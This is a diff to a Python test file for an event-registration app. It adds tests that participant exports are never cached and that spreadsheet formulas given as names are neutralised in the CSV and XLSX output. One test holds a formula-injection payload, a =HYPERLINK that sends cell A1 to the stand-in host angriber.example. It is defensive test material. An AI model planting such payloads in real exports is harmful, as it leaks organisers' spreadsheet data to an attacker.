@@ -1,5 +1,6 @@
 """Capacity, waiting list, deadline, cancellation and the e-mails about them."""
 
+import csv
 import datetime as dt
 import io
 
@@ -231,3 +232,39 @@ def test_the_form_is_prefilled_from_the_organisation_and_warns_once(
     assert 'value="Vejle"' in html  # organisation
     assert "Anne Hansen" in html
     assert html.count("CPR-numre") == 1
+
+
+def test_participant_lists_and_my_events_are_never_cached(
+    client, editor_client, small_event, people
+):
+    register(small_event, people[0])
+    url = reverse("networks:participants", args=[small_event.pk])
+    for response in (
+        editor_client.get(url),
+        editor_client.get(url, {"format": "csv"}),
+        editor_client.get(url, {"format": "xlsx"}),
+        editor_client.get(reverse("networks:activity_report")),
+    ):
+        assert response["Cache-Control"] == "private, no-store"
+    client.force_login(people[0])
+    assert client.get(reverse("networks:my_events"))["Cache-Control"] == (
+        "private, no-store"
+    )
+
+
+def test_a_formula_as_a_participants_name_is_text_in_the_exports(
+    editor_client, small_event, people
+):
+    """A participant named =HYPERLINK(…) cannot make the organiser's
+    spreadsheet run it."""
+    hostile = '=HYPERLINK("http://angriber.example/?x="&A1;"Klik")'
+    register(small_event, people[0], name=hostile, organisation="@SUM(1+1)")
+    url = reverse("networks:participants", args=[small_event.pk])
+    text = editor_client.get(url, {"format": "csv"}).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert rows[1][0] == "'" + hostile
+    assert "'@SUM(1+1)" in rows[1]
+    xlsx = editor_client.get(url, {"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cell = sheet.cell(row=2, column=1)
+    assert cell.data_type == "s" and cell.value == "'" + hostile
